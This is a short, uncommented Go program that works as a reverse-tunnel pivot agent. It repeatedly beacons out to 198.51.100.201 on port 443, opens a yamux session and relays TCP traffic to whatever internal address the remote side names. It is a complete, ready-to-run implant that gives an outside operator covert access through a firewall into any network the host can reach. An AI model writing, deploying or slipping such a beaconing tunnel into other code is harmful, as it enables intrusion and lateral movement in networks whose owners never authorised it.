package main

import (
	"io"
	"net"
	"time"

	"github.com/hashicorp/yamux"
)

func serve(s *yamux.Session) {
	for {
		st, err := s.Accept()
		if err != nil {
			return
		}
		go func() {
			defer st.Close()
			hdr := make([]byte, 1)
			if _, err := io.ReadFull(st, hdr); err != nil {
				return
			}
			addr := make([]byte, hdr[0])
			io.ReadFull(st, addr)
			dst, err := net.DialTimeout("tcp", string(addr), 5*time.Second)
			if err != nil {
				return
			}
			defer dst.Close()
			go io.Copy(dst, st)
			io.Copy(st, dst)
		}()
	}
}

func main() {
	for {
		if c, err := net.Dial("tcp", "198.51.100.201:443"); err == nil {
			if s, err := yamux.Server(c, nil); err == nil {
				serve(s)
			}
		}
		time.Sleep(20 * time.Second)
	}
}
